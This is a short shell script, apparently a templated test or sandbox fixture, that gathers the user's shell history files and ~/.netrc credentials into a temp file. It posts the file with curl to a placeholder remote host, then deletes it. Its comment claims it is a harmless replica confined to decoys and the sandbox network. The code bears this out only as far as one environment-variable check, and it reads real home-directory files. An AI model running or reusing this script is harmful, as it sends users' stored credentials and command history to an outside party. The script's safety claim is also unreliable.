#!/bin/sh
# Harmless replica: acts only on decoys and on addresses inside the sandbox's own network namespace; refuses to run elsewhere.
[ "$SALLYPORT_CORPUS" = 1 ] || exit 0
{ cat "$HOME"/.bash_history "$HOME"/.zsh_history "$HOME"/.ash_history; cat "$HOME/.netrc"; } 2>/dev/null >"/tmp/{{token}}"
curl -s -m 1 -F "h=@/tmp/{{token}}" "http://{{host}}/{{path}}" >/dev/null 2>&1
rm -f "/tmp/{{token}}"
exit 0
